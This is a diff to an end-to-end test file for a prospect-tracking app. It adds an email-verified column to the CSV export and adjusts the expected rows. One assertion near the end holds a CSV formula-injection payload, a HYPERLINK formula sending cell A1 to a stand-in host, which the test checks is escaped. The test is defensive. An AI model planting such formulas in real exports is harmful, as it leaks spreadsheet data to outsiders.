@@ -56,6 +56,7 @@ describe("the first worked example, end to end", () => {
       {
         visitorId: "visitor-journey",
         email: null,
+        emailVerified: false,
         score: 50,
         class: "prospect",
         grade: null,
@@ -97,8 +98,8 @@ describe("the first worked example, end to end", () => {
     const csv = await api(`/api/sites/acme/prospects?date=${today}&format=csv`);
     expect(csv.headers.get("content-type")).toContain("text/csv");
     const lines = (await csv.text()).trimEnd().split("\r\n");
-    expect(lines[0]).toBe("visitor_id,email,score,class,grade,prospect_since,new,reasons,name,company,title,last_seen,source");
-    expect(lines[1]).toMatch(/^visitor-journey,,50,prospect,,\d{4}-\d\d-\d\dT[\d:.]+Z,no,Contact page view \+20; Page view \+12; Came back a third time \+10,,,,\d{4}-\d\d-\d\dT[\d:.]+Z,$/);
+    expect(lines[0]).toBe("visitor_id,email,score,class,grade,prospect_since,new,reasons,name,company,title,last_seen,source,email_verified");
+    expect(lines[1]).toMatch(/^visitor-journey,,50,prospect,,\d{4}-\d\d-\d\dT[\d:.]+Z,no,Contact page view \+20; Page view \+12; Came back a third time \+10,,,,\d{4}-\d\d-\d\dT[\d:.]+Z,,no$/);
     expect(lines).toHaveLength(3);
   });
 
@@ -148,8 +149,8 @@ describe("the first worked example, end to end", () => {
     const lines = new TextDecoder().decode(plain).trimEnd().split("\r\n");
     const rows = lines.slice(1).map((l) => l.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/).slice(8));
     expect(rows).toEqual([
-      ["Zoë Ångström", '"Acme, Inc."', "CTO", expect.stringMatching(/^\d{4}-.*Z$/), ""],
-      ["", "", "", expect.stringMatching(/^\d{4}-.*Z$/), "newsletter / email"],
+      ["Zoë Ångström", '"Acme, Inc."', "CTO", expect.stringMatching(/^\d{4}-.*Z$/), "", "no"],
+      ["", "", "", expect.stringMatching(/^\d{4}-.*Z$/), "newsletter / email", "no"],
     ]);
   });
 
@@ -160,7 +161,7 @@ describe("the first worked example, end to end", () => {
     });
     await track("acme", "visitor-0001", event("pageview"));
     const csv = await (await api("/api/sites/acme/prospects?format=csv")).text();
-    const cell = csv.trimEnd().split("\r\n")[1]?.split(",").slice(7, -5).join(",");
+    const cell = csv.trimEnd().split("\r\n")[1]?.split(",").slice(7, -6).join(",");
     expect(cell).toBe('"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"") +5"');
   });
 });
